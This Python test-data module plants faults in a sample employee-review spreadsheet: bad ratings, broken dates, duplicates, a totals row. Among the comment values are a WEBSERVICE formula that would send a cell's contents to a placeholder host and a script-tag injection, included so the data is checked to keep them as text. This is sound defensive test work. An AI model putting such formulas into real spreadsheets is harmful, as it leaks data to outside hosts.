"""Reviews as they come out of a system: labels nobody planned for, words in number columns."""

from datetime import date

from sample_data.dice import Dice
from sample_data.faults import Draft
from sample_data.workbook import Formula, Value

_RATINGS: tuple[tuple[Value, str, str], ...] = (
    ("tbd", "unknown rating label", "Not a label of the scale; stays unknown."),
    ("tbd", "unknown rating label", "Not a label of the scale; stays unknown."),
    ("Meets most of the time", "unknown rating label", "Words where the scale has numbers."),
    (7, "rating outside the scale", "The scale ends at 5."),
    (0, "rating outside the scale", "The scale begins at 1."),
    ("4.0", "rating as text", "Reads as 4."),
    ("4.0", "rating as text", "Reads as 4."),
    ("5 ", "rating as text", "Reads as 5."),
    ("n/a", "blank marker", "A word for 'nothing', not a rating."),
    ("4/5", "unknown rating label", "Two numbers; must not turn into a date or into 4."),
    ("3–4", "unknown rating label", "A range is not a rating."),
)
_OTHERS: tuple[tuple[str, Value, str, str], ...] = (
    ("Review date", "sometime in March", "unreadable date", "Words, no day."),
    ("Review date", "2025-13-01", "unreadable date", "There is no thirteenth month."),
    ("Review date", date(2027, 3, 5), "future date", "A review after the export."),
    ("Goal attainment", "104 %", "percent as text", "Reads as 104."),
    ("Goal attainment", "97,5", "decimal comma", "Reads as 97.5."),
    ("Goal attainment", "most", "unreadable number", "A word in a number column."),
    ("Goal attainment", Formula("=100-3"), "formula without stored value", "Never calculated."),
    ("Goal attainment", Formula("=NA()", "#N/A"), "error cell", "An error, not a number."),
    ("Promotion recommended", "maybe", "unreadable yes or no", "Neither yes nor no."),
    ("Competency: Delivery", 9, "score outside the scale", "Scores end at 5."),
    ("Competency: Communication", "good", "unreadable number", "A word in a score column."),
    ("Employee ID", None, "id missing", "A review of nobody."),
    ("Reviewer ID", "099998", "reviewer not in people", "Nobody has this id."),
    ("Comment", "=WEBSERVICE(\"https://example.invalid/\"&A2)", "text that looks like code",
     "A comment that looks like a formula stays text."),
    ("Comment", "<script>alert('x')</script> | a | b |", "text that looks like code",
     "Markup stays text."),
)  # fmt: skip


def spoil(draft: Draft) -> None:
    """Plant every fault of the reviews."""
    dice = Dice("messy reviews")
    for value, problem, says in _RATINGS:
        row = draft.clean_row(dice, Relation="manager")
        draft.plant(row, "Rating", value, (problem, says))
    for label, value, problem, says in _OTHERS:
        draft.plant(draft.clean_row(dice), label, value, (problem, says))
    _strangers(draft, dice)
    _twice(draft, dice)
    said = ("duplicated header", "Two columns named Comment; the second is empty.")
    draft.header.append("Comment")
    for values in draft.rows:
        values.append(None)
    draft.note(-1, len(draft.header) - 1, *said)


def _strangers(draft: Draft, dice: Dice) -> None:
    """Reviews of people whom no other file knows."""
    for number in (900001, 900002):
        row = list(draft.rows[draft.clean_row(dice, Relation="manager")])
        row[draft.column("Employee ID")] = str(number)
        row[draft.column("Name")] = None
        row[draft.column("Email")] = None
        said = ("review without a person", "No role history and no people row has this id.")
        draft.append(row, said)


def _twice(draft: Draft, dice: Dice) -> None:
    same = draft.rows[draft.clean_row(dice)]
    draft.append(same, ("identical rows", "The same review once more."))
    other = list(draft.rows[draft.clean_row(dice, Relation="manager", Rating=3)])
    other[draft.column("Rating")] = 5
    draft.append(other, ("two reviews in one cycle", "Same person, cycle and reviewer: 3 and 5."))
    below: list[Value] = [None] * len(draft.header)
    below[0] = "Average"
    below[draft.column("Rating")] = 3.41
    draft.append(below, ("totals row", "An average of the rows above; it is no person."))
